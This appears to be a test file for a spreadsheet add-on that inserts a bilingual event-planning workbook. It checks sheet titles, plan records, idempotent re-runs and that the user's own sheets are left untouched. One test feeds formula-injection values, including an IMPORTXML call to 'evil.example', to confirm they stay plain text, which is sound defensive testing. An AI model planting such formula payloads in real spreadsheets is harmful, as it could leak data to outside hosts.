import { readFileSync } from 'node:fs';
import { ask, callsOf, EVENT, INSERT, LEAD, lastRun, loadShipped, newHost, restored, tableOf, typedCells, writesOf } from './showrunner';
import { plansOf, workbookContent } from './workbook-content';

/** Titles as the issue names them, in tab order; the last four stay hidden. */
const CHINESE = [
  '总览',
  '活动策划总表',
  '任务分解表',
  '团队与分工',
  '预算',
  '资源与物料',
  '活动流程',
  '风险与应急预案',
  '复盘报告',
  '改进清单',
  '设置',
  '节假日',
  '枚举',
  '提醒日志',
];
const ENGLISH = [
  'Overview',
  'Master plan',
  'Tasks',
  'Team',
  'Budget',
  'Resources',
  'Run of show',
  'Risks',
  'Review',
  'Improvements',
  'Settings',
  'Holidays',
  'Lists',
  'Digest log',
];

/** A spreadsheet with the plan in it, made once. */
let inserted = '';

beforeAll(async () => {
  await loadShipped();
  const host = newHost();
  ask(host, 'insertPlan', INSERT);
  inserted = host.save();
});

function hiddenTitles(host: ReturnType<typeof newHost>): string[] {
  return host.render().sheets.flatMap((sheet) => (sheet.hidden ? [sheet.title] : []));
}

describe('inserting a plan', () => {
  it('makes ten visible sheets and four hidden ones before the blank one', () => {
    const host = restored(inserted);
    expect(host.sheetTitles).toEqual([...CHINESE, '工作表1']);
    expect(hiddenTitles(host)).toEqual(['设置', '节假日', '枚举', '提醒日志']);
  });

  it('does so in English, for a person who reads English', () => {
    const host = newHost({ locale: 'en_US', timeZone: 'America/New_York' });
    const { shownTitles } = ask(host, 'insertPlan', { ...INSERT, language: 'en' });
    expect(host.sheetTitles).toEqual([...ENGLISH, 'Sheet1']);
    expect(shownTitles).toEqual(ENGLISH.slice(0, 10));
    expect(hiddenTitles(host)).toEqual(['Settings', 'Holidays', 'Lists', 'Digest log']);
  });

  it('leaves a plan record with the ids of its sheets and no journal', () => {
    const host = restored(inserted);
    const [plan = ''] = plansOf(host);
    const record = JSON.parse(host.properties[`sr.plan.${plan}`] ?? 'null');
    expect(Object.keys(record.sheets).sort()).toEqual(
      ['budget', 'improvements', 'master', 'overview', 'resources', 'review', 'risks', 'runOfShow', 'settings', 'tasks', 'team'].sort(),
    );
    expect(record).toMatchObject({
      insertedOn: '2026-12-10',
      answers: { d0: EVENT, d1: EVENT, leadEmail: LEAD, calendar: 'china', currency: 'CNY' },
    });
    const ids = new Map(host.render().sheets.map((sheet) => [sheet.id, sheet.title]));
    expect(ids.get(record.sheets.tasks)).toBe('任务分解表');
    expect(Object.keys(JSON.parse(host.properties['sr.book'] ?? '{}').sheets).sort()).toEqual(['holidays', 'lists', 'log']);
    expect(host.properties['sr.journal']).toBeUndefined();
  });

  it('makes the inserting user the lead, and writes every task of the template', () => {
    const host = restored(inserted);
    const lead = tableOf(host, '团队与分工').find((row) => row.role === '总负责人');
    expect(lead).toMatchObject({ name: 'lead', email: LEAD });
    const tasks = tableOf(host, '任务分解表');
    const file = JSON.parse(readFileSync('sheets-templates/product-launch.json', 'utf8')) as { tasks: unknown[] };
    expect(tasks).toHaveLength(file.tasks.length);
    expect(new Set(tasks.map((row) => row.id)).size).toBe(tasks.length);
  });

  it('shows no error cell', () => {
    const cells = restored(inserted)
      .render()
      .sheets.flatMap((sheet) => sheet.cells);
    expect(cells.filter((cell) => cell.isError)).toEqual([]);
    expect(cells.filter((cell) => cell.formula !== null).length).toBeGreaterThan(100);
  });

  it('a second time does nothing: no operation, and no call that writes', () => {
    const host = restored(inserted);
    const before = host.save();
    const outcome = ask(host, 'insertPlan', INSERT);
    expect(outcome).toMatchObject({ created: false, operations: 0, findings: [] });
    expect(writesOf(lastRun(host))).toEqual([]);
    expect(lastRun(host).flushes).toBe(0);
    expect(host.save()).toBe(before);
    expect(callsOf(lastRun(host))).toBeGreaterThan(50);
  });

  it('puts back a rule and a formula that went missing, and then finds nothing more to do', () => {
    const host = restored(inserted);
    const { SpreadsheetApp } = host.services();
    const tasks = SpreadsheetApp.getActiveSpreadsheet()
      ?.getSheets()
      .find((sheet) => sheet.getName() === '任务分解表');
    tasks?.setConditionalFormatRules([]);
    expect(ask(host, 'insertPlan', INSERT)).toMatchObject({ created: false, operations: 1, findings: [] });
    expect(ask(host, 'insertPlan', INSERT)).toMatchObject({ operations: 0 });
    expect(workbookContent(host).任务分解表).toBe(workbookContent(restored(inserted)).任务分解表);
  });

  it('on another date makes a further plan with numbered titles and advises a spreadsheet of its own', () => {
    const host = restored(inserted);
    const before = workbookContent(host);
    const outcome = ask(host, 'insertPlan', { ...INSERT, d0: '2027-01-20' });
    expect(outcome.created).toBe(true);
    expect(outcome.shownTitles).toEqual(CHINESE.slice(0, 10).map((title) => `${title} 2`));
    expect(outcome.findings).toContainEqual({ code: 'insert.separateSpreadsheet', path: '', facts: { plans: 2 } });
    expect(host.sheetTitles).toEqual(['全部活动', ...CHINESE, '工作表1', ...CHINESE.slice(0, 11).map((title) => `${title} 2`)]);
    expect(plansOf(host)).toHaveLength(2);
    const after = workbookContent(host);
    for (const title of ['任务分解表', '预算', '节假日', '枚举', '提醒日志']) {
      expect(after[title]?.replace(/<plan>/g, '')).toBe(before[title]?.replace(/<plan>/g, ''));
    }
  });
});

describe("what is the user's", () => {
  it('is not touched: their sheets are the same afterwards, one called 任务分解表 included', () => {
    const host = newHost();
    host.editCell('工作表1', 'A1', '=1+1');
    host.editCell('工作表1', 'B2', '10%');
    const { SpreadsheetApp } = host.services();
    const own = SpreadsheetApp.getActiveSpreadsheet()?.insertSheet('任务分解表', 1);
    own?.getRange(1, 1, 2, 2).setValues([
      ['任务', '负责人'],
      ['订花', '小王'],
    ]);
    own?.getRange(1, 1, 1, 2).setBackgrounds([['#ff0000', '#00ff00']]);
    const before = host.render().sheets.map((sheet) => JSON.stringify(sheet));
    const { shownTitles } = ask(host, 'insertPlan', INSERT);
    const after = host.render().sheets;
    expect(after.slice(0, 2).map((sheet) => JSON.stringify(sheet))).toEqual(before);
    expect(shownTitles).toEqual(CHINESE.slice(0, 10).map((title) => `${title} 2`));
    expect(after.slice(2).map((sheet) => sheet.title)).toEqual(CHINESE.map((title) => `${title} 2`));
  });

  it.each([
    ['=IMPORTXML("http://evil.example","//a")', '+1-2'],
    ["'quoted <b>", '00861'],
  ])('text stays text: an event called %s led by %s', (eventName, leadName) => {
    const host = newHost();
    ask(host, 'insertPlan', { ...INSERT, eventName, leadName, venue: '-2+3' });
    const settings = new Map(typedCells(host, '设置').map((row) => [String(row[0]).split('|')[3], row]));
    expect(settings.get('eventName')).toContain(eventName);
    expect(host.sheetTitles.flatMap((title) => typedCells(host, title).flat())).toContain('-2+3');
    expect(tableOf(host, '团队与分工').find((row) => row.role === '总负责人')?.name).toBe(leadName);
    const saved = JSON.parse(host.save()) as { book: { sheets: { rows: ({ f?: string } | null)[][] }[] } };
    const formulas = saved.book.sheets.flatMap((sheet) => sheet.rows.flat()).flatMap((cell) => cell?.f ?? []);
    expect(formulas.length).toBeGreaterThan(100);
    expect(formulas.filter((formula) => /IMPORTXML\(|^=\+?-?[12]/.test(formula))).toEqual([]);
    expect(ask(host, 'insertPlan', { ...INSERT, eventName, leadName })).toMatchObject({ operations: 0, findings: [] });
  });
});
